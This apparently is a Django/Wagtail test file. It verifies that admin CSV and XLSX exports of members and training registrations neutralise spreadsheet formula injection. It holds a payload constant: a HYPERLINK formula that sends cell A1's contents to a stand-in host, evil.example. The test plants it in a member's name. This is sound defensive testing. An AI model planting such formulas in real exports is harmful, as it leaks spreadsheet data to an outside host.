"""Door 1: admin exports (CSV and XLSX) neutralise cells a spreadsheet would run as formulas."""

import io

import pytest
from openpyxl import load_workbook

from tcri_site import admin_exports
from tests.factories import make_member
from tests.trainings.conftest import make_session, make_training
from trainings.models import Registration, TrainingIndexPage

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'

pytestmark = pytest.mark.django_db


@pytest.fixture
def evil_member(organisation):
    return make_member(organisation, first_name=EVIL, last_name="Tremblay")


def _csv(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def _xlsx_cells(response) -> list:
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_neutralised_csv(body: str) -> None:
    assert "'=HYPERLINK(" in body
    for line in body.splitlines():
        for cell in line.split(","):
            assert not cell.strip('"').startswith("=HYPERLINK"), line


def _assert_neutralised_xlsx(cells) -> None:
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(t.startswith("'=HYPERLINK(") for t in texts), texts
    assert not any(t.startswith("=") for t in texts), texts
    assert all(c.data_type != "f" for c in cells)


def test_membership_admin_csv_export_is_neutralised(client, project_lead, evil_member):
    client.force_login(project_lead)
    _assert_neutralised_csv(_csv(client.get("/admin/snippets/members/membership/?export=csv")))


def test_membership_admin_xlsx_export_is_neutralised(client, project_lead, evil_member):
    client.force_login(project_lead)
    _assert_neutralised_xlsx(_xlsx_cells(client.get("/admin/snippets/members/membership/?export=xlsx")))


@pytest.fixture
def evil_registration(evil_member, organisation):
    from wagtail.models import Page

    index = Page.objects.get(depth=2).add_child(instance=TrainingIndexPage(title="Formations", slug="formations"))
    session = make_session(make_training(index))
    return Registration.objects.create(session=session, user=evil_member, organisation=organisation)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_trainings_registrations_export_is_neutralised(client, project_lead, evil_registration, export_format):
    client.force_login(project_lead)
    response = client.get(f"/admin/snippets/trainings/registration/?export={export_format}")
    if export_format == "csv":
        _assert_neutralised_csv(_csv(response))
    else:
        _assert_neutralised_xlsx(_xlsx_cells(response))


def test_the_wagtail_method_we_wrap_still_exists_and_is_wrapped():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert hasattr(SpreadsheetExportMixin, "preprocess_field_value"), (
        "Wagtail renamed SpreadsheetExportMixin.preprocess_field_value: update tcri_site/admin_exports.py"
    )
    assert admin_exports.is_installed()


def test_neutralise_leaves_other_values_alone():
    assert admin_exports.neutralise("-3") == "'-3"
    assert admin_exports.neutralise("Marie") == "Marie"
    assert admin_exports.neutralise(3) == 3
    assert admin_exports.neutralise(None) is None
